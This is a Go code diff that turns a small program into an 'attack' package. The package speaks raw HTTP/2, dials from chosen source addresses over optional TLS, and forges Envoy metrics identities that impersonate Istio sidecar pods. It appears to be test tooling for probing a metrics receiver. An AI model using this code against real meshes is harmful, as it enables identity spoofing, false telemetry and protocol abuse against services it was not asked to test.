@@ -1,10 +1,13 @@
-package main
+package attack
 
 import (
 	"context"
+	"crypto/tls"
 	"encoding/binary"
 	"fmt"
 	"net"
+	"net/netip"
+	"sync/atomic"
 	"time"
 
 	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
@@ -16,7 +19,7 @@ import (
 
 // Kinds and flags of HTTP/2's frames (RFC 9113, section 6).
 const (
-	data, headers, priority, reset, settings, window, continuation = 0, 1, 2, 3, 4, 8, 9
+	data, headers, reset, settings, continuation = 0, 1, 3, 4, 9
 
 	padded, endHeaders = 8, 4
 )
@@ -24,25 +27,35 @@ const (
 // conn is a connection that speaks as much HTTP/2 as it likes. Its errors mean that it was closed, which is what many attacks meet.
 type conn struct {
 	net.Conn
-	err error
+	err   error
+	ended atomic.Bool // the other side has closed it
 }
 
-// dial opens a connection of an address of its own: all of 127/8 is loopback.
-func dial(ctx context.Context, from, target string) (*conn, error) {
-	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 5 * time.Second}
+// dial opens a connection from the pod's own address, over TLS where there is something to secure it with.
+func dial(ctx context.Context, from Pod, target string, security *tls.Config) (*conn, error) {
+	d := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(from.from(), 0)), Timeout: 5 * time.Second}
 	c, err := d.DialContext(ctx, "tcp", target)
 	if err != nil {
 		return nil, err
 	}
+	if security != nil {
+		t := tls.Client(c, security)
+		if err := t.HandshakeContext(ctx); err != nil {
+			_ = c.Close()
+			return nil, err
+		}
+		c = t
+	}
+	x := &conn{Conn: c}
 	go func() { // what is said is not listened to, but taken
 		b := make([]byte, 4096)
 		for {
 			if _, err := c.Read(b); err != nil {
+				x.ended.Store(true)
 				return
 			}
 		}
 	}()
-	x := &conn{Conn: c}
 	x.write([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
 	x.frame(settings, 0, 0, nil)
 	return x, nil
@@ -98,26 +111,20 @@ func (c *conn) message(stream uint32, b []byte, compressed bool) {
 	}
 }
 
-// pod is who says that it reports.
-type pod struct {
-	namespace, name, workload string
-	flush                     string // the annotation, "" for none
-}
-
-func (p pod) identifier() *metricsv3.StreamMetricsMessage_Identifier {
-	meta := map[string]any{"NAMESPACE": p.namespace, "NAME": p.name, "WORKLOAD_NAME": p.workload}
-	if p.flush != "" {
-		meta["ANNOTATIONS"] = map[string]any{"sidecar.istio.io/statsFlushInterval": p.flush}
+func (p Pod) identifier() *metricsv3.StreamMetricsMessage_Identifier {
+	meta := map[string]any{"NAMESPACE": p.Namespace, "NAME": p.Name, "WORKLOAD_NAME": p.Workload}
+	if p.Flush != "" {
+		meta["ANNOTATIONS"] = map[string]any{"sidecar.istio.io/statsFlushInterval": p.Flush}
 	}
 	m, err := structpb.NewStruct(meta)
 	if err != nil {
 		panic(err) // texts alone
 	}
-	return &metricsv3.StreamMetricsMessage_Identifier{Node: &corev3.Node{Id: "sidecar~10.0.0.1~" + p.name + "." + p.namespace + "~x", Metadata: m}}
+	return &metricsv3.StreamMetricsMessage_Identifier{Node: &corev3.Node{Id: "sidecar~" + p.Address + "~" + p.Name + "." + p.Namespace + "~x", Metadata: m}}
 }
 
 // message is one with the families.
-func message(p *pod, families ...*dto.MetricFamily) []byte {
+func message(p *Pod, families ...*dto.MetricFamily) []byte {
 	m := &metricsv3.StreamMetricsMessage{EnvoyMetrics: families}
 	if p != nil {
 		m.Identifier = p.identifier()
